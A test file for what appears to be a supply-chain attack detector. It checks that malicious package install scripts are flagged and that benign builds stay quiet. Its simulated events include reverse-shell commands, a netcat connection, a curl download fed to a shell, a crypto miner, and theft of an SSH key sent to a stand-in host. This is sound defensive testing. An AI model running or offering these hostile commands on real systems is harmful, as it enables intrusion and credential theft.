import { describe, expect, it } from 'vitest';
import type { Indicator } from '../../core/lineage.ts';
import { noKnowledge } from '../../core/lineage.ts';
import { inet, pipes, Machine } from '../../../test/machine.ts';
import { packageChild } from './behaviour.ts';

const stage = (): Machine => new Machine(packageChild);
const cwd = '/home/wang/app/node_modules/left-padd';

/** `npm install` of a person, and the lifecycle script of one package. */
function lifecycle(s: Machine): number {
  const npm = s.spawn(s.login(), '/usr/bin/node', 'node /usr/bin/npm install left-padd');
  return s.spawn(npm, '/usr/bin/dash', 'sh -c node postinstall.js', { process_cwd: cwd });
}

describe('a script of a package', () => {
  it('opens a shell to the network', () => {
    const s = stage();
    const script = s.spawn(lifecycle(s), '/usr/bin/node', 'node postinstall.js', { process_cwd: cwd });
    s.connect(script);
    s.spawn(script, '/usr/bin/bash', 'bash -i', { extra: inet });
    expect(s.levels).toEqual(['critical']);
    expect(s.found[0]?.group).toMatchObject({ manager: 'npm', package: 'left-padd', origin_en: 'the package manager npm run by wang from 203.0.113.9', source_ip: '203.0.113.9' });
  });

  it('is a shell that connects, a relay, a download handed to a shell, a miner', () => {
    const s = stage();
    const script = lifecycle(s);
    s.connect(s.spawn(script, '/usr/bin/bash', 'bash -c bash -i >& /dev/tcp/…'));
    s.spawn(script, '/usr/bin/nc.openbsd', 'nc 198.51.100.7 4444');
    const curl = s.spawn(script, '/usr/bin/curl', 'curl -s http://198.51.100.7/x.sh', { extra: { stdout: 'pipe' } });
    s.connect(curl, '198.51.100.7', 80);
    s.spawn(script, '/usr/bin/dash', 'sh', { extra: pipes });
    const miner = s.spawn(script, '/home/wang/app/node_modules/left-padd/jsextension');
    s.tell('flow', miner, { direction: 'outbound', destination_ip: '198.51.100.8', destination_port: 443, payload: '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x"}}' });
    s.spawn(script, '/home/wang/app/node_modules/left-padd/xmrig-6');
    expect(s.levels).toEqual(['critical', 'high', 'critical', 'critical', 'critical']);
    expect(new Set(s.found.map((d) => d.key)).size).toBe(1);
  });

  it('fetches a program into a temporary folder and runs it', () => {
    const s = stage();
    const pip = s.spawn(s.login(), '/usr/bin/python3.11', '/usr/bin/python3 -m pip install requestz');
    const setup = s.spawn(pip, '/usr/bin/python3.11', 'python3 setup.py egg_info', { process_cwd: '/tmp/pip-install-ab12cd/requestz_0123456789abcdef0123456789abcdef' });
    s.connect(setup, '198.51.100.7', 443);
    s.file(setup, 'create', '/tmp/update');
    s.spawn(setup, '/tmp/update');
    expect(s.found.map((d) => [d.level, d.group?.['manager'], d.group?.['package']])).toEqual([['high', 'pip', 'requestz']]);
  });

  it('plants itself, or reads keys and connects out', () => {
    const s = stage();
    const script = s.spawn(lifecycle(s), '/usr/bin/node', 'node postinstall.js', { process_cwd: cwd });
    s.file(script, 'create', '/etc/cron.d/x');
    s.tell('file_event', script, { action: 'read', file_path: '/home/wang/.ssh/id_ed25519' });
    s.connect(script, '198.51.100.7', 443);
    expect(s.levels).toEqual(['critical', 'critical']);
    expect(s.found[1]?.group).toMatchObject({ detail: '/home/wang/.ssh/id_ed25519 → 198.51.100.7:443' });
  });

  it('of the system speaks to a listed address', () => {
    const bad: Indicator = { kind: 'address', value: '198.51.100.7', what: 'c2', level: 'high', list: 'test' };
    const s = new Machine(packageChild, { knowledge: { intelligence: { ...noKnowledge.intelligence, address: (ip) => (ip === bad.value ? bad : undefined), domain: (name) => (name === 'pool.example' ? { ...bad, kind: 'domain', what: 'miner' } : undefined) } } });
    const dpkg = s.spawn(s.spawn(s.login(), '/usr/bin/apt-get', 'apt-get install x'), '/usr/bin/dpkg', 'dpkg --configure x');
    const script = s.spawn(dpkg, '/usr/bin/dash', '/bin/sh /var/lib/dpkg/info/x.postinst configure');
    const python = s.spawn(script, '/usr/bin/python3.11', 'python3 -c …');
    s.connect(python, '198.51.100.7', 443);
    s.tell('dns_query', python, { destination_host: 'pool.example' });
    expect(s.found.map((d) => [d.level, d.group?.['manager'], d.group?.['package']])).toEqual([['critical', 'apt-get', 'x'], ['critical', 'apt-get', 'x']]);
  });
});

it('installations that build, fetch and set things up stay quiet', () => {
  const s = stage();
  const script = s.spawn(lifecycle(s), '/usr/bin/node', 'node install.js', { process_cwd: '/home/wang/app/node_modules/esbuild' });
  s.connect(script, '203.0.113.80', 443);
  s.file(script, 'create', '/home/wang/app/node_modules/esbuild/bin/esbuild');
  s.spawn(script, '/home/wang/app/node_modules/esbuild/bin/esbuild', 'esbuild --version', { extra: { stdin: 'socket', stdout: 'socket', stderr: 'socket' } });
  s.file(script, 'create', '/home/wang/.cache/puppeteer/chrome/x/chrome');
  s.spawn(script, '/home/wang/.cache/puppeteer/chrome/x/chrome');
  for (const [path, cmdline] of [['/usr/bin/make', 'make'], ['/usr/bin/gcc', 'gcc -c x.c'], ['/usr/bin/python3.11', 'python3 gyp_main.py'], ['/usr/bin/dash', 'sh -c prebuild-install || node-gyp rebuild'], ['/usr/bin/git', 'git clone https://git.example/x']] as const) s.spawn(script, path, cmdline);
  const ssh = s.spawn(s.spawn(script, '/usr/bin/git', 'git clone git@git.example:x'), '/usr/bin/ssh', 'ssh git@git.example');
  s.tell('file_event', ssh, { action: 'read', file_path: '/home/wang/.ssh/id_ed25519' });
  s.connect(ssh, '203.0.113.80', 22);
  s.file(script, 'create', '/home/wang/app/node_modules/x/.bashrc');
  const pip = s.spawn(s.login(), '/usr/bin/python3.11', '/usr/bin/python3 -m pip install numpy');
  s.spawn(s.spawn(pip, '/usr/bin/python3.11', 'python3 setup.py'), '/tmp/pip-build-env-x/overlay/bin/cmake');
  const dpkg = s.spawn(s.spawn(s.login(), '/usr/bin/apt-get', 'apt-get install nginx'), '/usr/bin/dpkg', 'dpkg --configure nginx');
  const postinst = s.spawn(dpkg, '/usr/bin/dash', '/bin/sh /var/lib/dpkg/info/nginx.postinst configure');
  s.file(postinst, 'create', '/etc/systemd/system/multi-user.target.wants/nginx.service');
  s.file(s.spawn(postinst, '/usr/bin/ucf', 'ucf x /etc/cron.d/nginx'), 'create', '/etc/cron.d/nginx');
  s.tell('file_event', s.spawn(postinst, '/usr/sbin/adduser', 'adduser --system x'), { action: 'read', file_path: '/etc/shadow' });
  s.spawn(postinst, '/tmp/nginx.config.Ab12Cd');
  const wget = s.spawn(postinst, '/usr/bin/wget', 'wget https://fonts.example/x.exe -O /var/cache/x/x.exe');
  s.connect(wget, '203.0.113.80', 443);
  s.file(wget, 'create', '/var/cache/x/x.exe');
  // What is installed runs later as it likes.
  const app = s.daemon('app', '/usr/bin/node', 'node /srv/app/server.js');
  s.file(app, 'create', '/etc/cron.d/app');
  expect(s.found.map((d) => [d.level, d.group?.['detail']])).toEqual([]);
});
